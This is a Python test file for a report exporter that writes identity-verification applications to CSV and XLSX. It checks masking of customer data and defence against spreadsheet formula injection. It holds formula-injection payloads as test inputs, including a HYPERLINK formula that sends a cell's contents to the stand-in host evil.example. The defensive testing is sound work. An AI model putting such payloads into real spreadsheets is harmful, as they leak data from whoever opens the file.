"""Applications as a table: masked, complete, and safe to open."""

import csv
import io
import re
import zipfile
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.reports.table import FORMATS, Table, application_table, as_file
from conversations import events
from conversations.card import CARD_FIELDS
from conversations.erasure import without_form
from conversations.questions import FORM, asked_of
from conversations.submission import EarlierAttempt
from conversations.verdict import Decision, Score, Verdict
from storage.agents import Agent, Role
from tests.support.forms import AGENT, FAILED, NOW, READ, after, decided, pending, press, until

ASKED = asked_of(FORM)

RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: Formulas after something that another spreadsheet reads as the end of a cell.
BURIED = ("x;=1+1", "x\t=1", "x\n@SUM(1)", "x; ＝1", "x\r-2+3")
INJECTIONS = (FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "|calc", "%x")


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet_of(content: bytes) -> str:
    """The XML of the sheet and of its shared texts."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = [name for name in book.namelist() if "sheet1" in name or "sharedStrings" in name]
        return "".join(book.read(name).decode() for name in names)


def named(name: str) -> Table:
    application = replace(until("review"), answers={"name_english": name})
    return application_table([application], {AGENT: RAHIM}, is_masked=False)


def test_a_row_tells_everything_except_who_it_is() -> None:
    headings, row = application_table([decided()], {AGENT: RAHIM}, is_masked=True)
    told = dict(zip(headings, row, strict=True))

    assert (told["reference"], told["state"], told["team"]) == ("ABCD2345", "passed", "Khulna")
    assert (told["customer"], told["national_id"]) == ("M••• A••• M•••", "•••• 0147")
    assert told["mobile_number"] == "•••• 678"
    assert (told["consent_version"], told["consent_language"]) == ("2026-11", "en")
    assert told["begun"] == "2026-11-23 12:00:00"


def test_a_failed_application_that_is_open_again_is_no_mere_draft() -> None:
    corrected = after(decided(FAILED), press(events.CorrectionBegun))
    headings, *rows = application_table([corrected, until("gender")], {}, is_masked=True)

    assert [row[headings.index("state")] for row in rows] == ["being corrected", "filling"]


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_masked_file_holds_no_value_of_a_customer(file_format: str) -> None:
    table = application_table([decided(), pending()], {AGENT: RAHIM}, is_masked=True)
    content = as_file(table, file_format)
    text = sheet_of(content) if file_format == "xlsx" else content.decode()

    assert "ABCD2345" in text
    for value in (*READ.values(), "01712345678"):
        assert value not in text


def test_full_values_come_only_where_they_are_asked_for() -> None:
    _, row = application_table([decided()], {AGENT: RAHIM}, is_masked=False)

    assert {READ["nid_number"], READ["name_english"], "01712345678"} <= set(row)


def test_a_full_row_has_every_field_of_the_form_and_how_it_went() -> None:
    scores = (Score(field="nid", points=100.0), Score(field="selfie", points=None))
    failed = Verdict(decision=Decision.FAILED, found_at=NOW, scores=scores, selfie_matches=False)
    form = decided(failed)
    assert form.submission
    earlier = EarlierAttempt(submission=form.submission, verdict=failed)
    headings, row = application_table(
        [replace(form, earlier=(earlier,))], {AGENT: RAHIM}, is_masked=False
    )
    told = dict(zip(headings, row, strict=True))

    assert set(CARD_FIELDS) - {"nid_number"} < set(headings)
    asked = {key for key in ASKED if key != "mobile_number"}
    assert asked < set(headings)
    assert all(told[key] == form.value(key) for key in asked)
    assert (told["scores"], told["selfie_matches"], told["texts_match"]) == (
        "nid:100 selfie:",
        "no",
        "",
    )
    assert told["reasons"] == "selfie"
    assert told["earlier_attempts"] == "failed 2026-11-23 12:00:00 selfie"
    assert told["card_read"]
    assert told["pressed"]


def test_an_erased_application_has_empty_fields() -> None:
    headings, row = application_table(
        [without_form(decided(), NOW)], {AGENT: RAHIM}, is_masked=False
    )
    told = dict(zip(headings, row, strict=True))

    assert told["customer"] == "M••• A••• M•••"
    assert {told[key] for key in ASKED if key != "mobile_number"} == {""}


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_name_that_is_a_formula_is_text_in_csv(name: str) -> None:
    cell = read_csv(as_file(named(name), "csv"))[1][9]

    assert cell.startswith("'")
    assert cell.replace("'", "") == name


@pytest.mark.parametrize("name", BURIED)
def test_no_formula_begins_where_another_spreadsheet_splits_a_cell(name: str) -> None:
    cell = read_csv(as_file(named(name), "csv"))[1][9]

    assert re.split(r"[;\t\r\n]", cell)[1].startswith("'")
    assert cell.replace("'", "") == name


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_name_that_is_a_formula_is_text_in_xlsx(name: str) -> None:
    sheet = sheet_of(as_file(named(name), "xlsx"))

    assert "<f>" not in sheet
    assert "hyperlink" not in sheet.replace("HYPERLINK", "")


@given(st.text())
def test_no_cell_of_a_csv_begins_as_a_formula_and_none_is_split(name: str) -> None:
    rows = read_csv(as_file([["heading"], [name]], "csv"))

    assert len(rows) == 2
    (cell,) = rows[1]
    assert cell.lstrip("' ")[:1] not in ("=", "+", "-", "@") or cell.startswith("'")
    assert cell.replace("'", "") == name.replace("'", "")
    for part in re.split(r"[;\t\r\n]", cell)[1:]:
        assert not part.lstrip().startswith(("=", "+", "-", "@"))


def test_bangla_is_read_as_bangla() -> None:
    rows = read_csv(as_file([["মোঃ আব্দুর রহিম"]], "csv"))

    assert rows == [["মোঃ আব্দুর রহিম"]]
    assert as_file([["x"]], "csv").startswith(b"\xef\xbb\xbf")
